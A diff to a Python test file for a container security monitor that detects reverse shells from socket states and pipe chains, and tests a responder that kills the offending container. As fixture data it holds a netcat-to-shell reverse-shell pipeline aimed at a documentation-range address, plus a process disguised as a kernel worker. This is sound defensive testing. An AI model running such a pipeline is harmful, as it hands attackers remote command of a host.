@@ -293,16 +293,26 @@ def test_a_process_with_its_stdio_on_a_remote_tcp_connection_is_a_reverse_shell(
         Conn("tcp", "10.0.0.2:40000", "203.0.113.7:443", "ESTABLISHED", 1000, inode=4242),
         Conn("tcp", "127.0.0.1:40001", "127.0.0.1:8080", "ESTABLISHED", 1000, inode=77),
         Conn("tcp", "10.0.0.2:40002", "203.0.113.7:80", "SYN_SENT", 1000, inode=78),
+        Conn("tcp", "10.0.0.2:40003", "203.0.113.7:443", "FIN_WAIT2", 1000, inode=79),
+        Conn("tcp", "10.0.0.2:40004", "203.0.113.7:80", "CLOSE_WAIT", 1000, inode=80),
+        Conn("udp", "10.0.0.2:40005", "203.0.113.7:9", "UDP", 1000, inode=81),
+        Conn("tcp", "0.0.0.0:22", "0.0.0.0:0", "LISTEN", 1000, inode=82),
+        Conn("udp", "127.0.0.1:40006", "127.0.0.1:53", "UDP", 1000, inode=83),
     ]
     renamed = _sock_proc(10, "/tmp/kworker -i", {0: "socket:[4242]", 1: "socket:[4242]"})
     local = _sock_proc(11, "nc localhost 8080", {0: "socket:[77]"})  # loopback: not a peer
-    connecting = _sock_proc(12, "x", {1: "socket:[78]"})  # not established
     agent = _sock_proc(13, "claude", {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"})
     piped = _sock_proc(14, "git", {0: "pipe:[5]", 1: "socket:[999]"})  # unknown inode
-    found = socket_shells([renamed, local, connecting, agent, piped], conns)
+    listener = _sock_proc(15, "inetd", {0: "socket:[82]"})  # no peer
+    local_udp = _sock_proc(16, "x", {1: "socket:[83]"})
+    found = socket_shells([renamed, local, agent, piped, listener, local_udp], conns)
     assert [(t.level, t.category) for t in found] == [("critical", "reverse_shell")]
     assert "PID 10" in found[0].description and "203.0.113.7:443" in found[0].description
     assert found[0].evidence["connection"] == {"remote": "203.0.113.7:443", "fd": 0}
+    # Any connected state (connecting, half-closed either way) and connected UDP: the same.
+    for pid, inode in ((12, 78), (17, 79), (18, 80), (19, 81)):
+        (t,) = socket_shells([_sock_proc(pid, "/tmp/x", {2: f"socket:[{inode}]"})], conns)
+        assert f"PID {pid}" in t.description and t.level == "critical"
 
 
 def test_a_shell_fed_from_and_answering_the_network_through_pipes_is_a_reverse_shell() -> None:
@@ -333,3 +343,56 @@ def test_a_shell_fed_from_and_answering_the_network_through_pipes_is_a_reverse_s
     make = proc(40, "make", {0: "/dev/null", 1: "pipe:[300]"})
     nc2 = proc(41, "nc 203.0.113.7 443", {0: "pipe:[300]", 1: "/dev/null"}, ("socket:[9]",))
     assert pipe_shells([curl, sh2, make, nc2], conns) == []
+
+
+def test_a_pipe_shell_whose_reading_connection_is_half_closed_is_a_reverse_shell() -> None:
+    """`nc h 443 | sh | nc h 80` with the first nc's stdin /dev/null: it shuts its writing
+    half at once (FIN_WAIT2) and still reads the attacker's commands."""
+    from coi.monitor.collect import Conn
+    from coi.monitor.detect import pipe_shells
+
+    conns = [
+        Conn("tcp", "10.0.0.2:40000", "203.0.113.7:443", "FIN_WAIT2", 1000, inode=9),
+        Conn("tcp", "10.0.0.2:40001", "203.0.113.7:80", "ESTABLISHED", 1000, inode=10),
+    ]
+
+    def proc(pid: int, cmd: str, stdio: dict[int, str], files: tuple[str, ...] = ()) -> Proc:
+        p = _sock_proc(pid, cmd, stdio)
+        p.files.extend([*stdio.values(), *files])
+        return p
+
+    nc_in = proc(50, "nc 203.0.113.7 443", {0: "/dev/null", 1: "pipe:[1]"}, ("socket:[9]",))
+    sh = proc(51, "sh", {0: "pipe:[1]", 1: "pipe:[2]", 2: "pipe:[2]"})
+    nc_out = proc(52, "nc 203.0.113.7 80", {0: "pipe:[2]", 1: "/dev/null"}, ("socket:[10]",))
+    (t,) = pipe_shells([nc_in, sh, nc_out], conns)
+    assert "PID 51" in t.description
+    # A listener is no peer: the same pipeline between two servers' listening sockets is not it.
+    listening = [Conn("tcp", "0.0.0.0:443", "0.0.0.0:0", "LISTEN", 1000, inode=9)]
+    assert pipe_shells([nc_in, sh, nc_out], listening) == []
+
+
+def test_a_kill_from_the_host_comes_first_and_the_daemon_is_told_after(tmp_path: Path) -> None:
+    daemon, order = _Daemon(), []
+    audit = AuditLog("c1", tmp_path)
+
+    def kill_now() -> bool:
+        order.append("cgroup.kill")
+        return True
+
+    r = Responder(
+        daemon,  # type: ignore[arg-type]
+        "c1", audit, auto_pause=True, auto_kill=True, alert=lambda _m: None, kill_now=kill_now,
+    )  # fmt: skip
+    crit = detect.Threat("critical", "reverse_shell", "Reverse shell detected", "x")
+    assert [e.action for e in r.handle([crit])] == ["killed"]
+    assert order == ["cgroup.kill"] and daemon.instances.calls == ["stop c1 force=True"]
+    assert '"action":"killed"' in audit.path.read_text()
+    # No cgroup.kill (v1, an old kernel): the daemon's stop is the kill.
+    daemon2 = _Daemon()
+    r2 = Responder(
+        daemon2,  # type: ignore[arg-type]
+        "c2", AuditLog("c2", tmp_path), auto_pause=True, auto_kill=True,
+        alert=lambda _m: None, kill_now=lambda: False,
+    )  # fmt: skip
+    assert [e.action for e in r2.handle([crit])] == ["killed"]
+    assert daemon2.instances.calls == ["stop c2 force=True"]
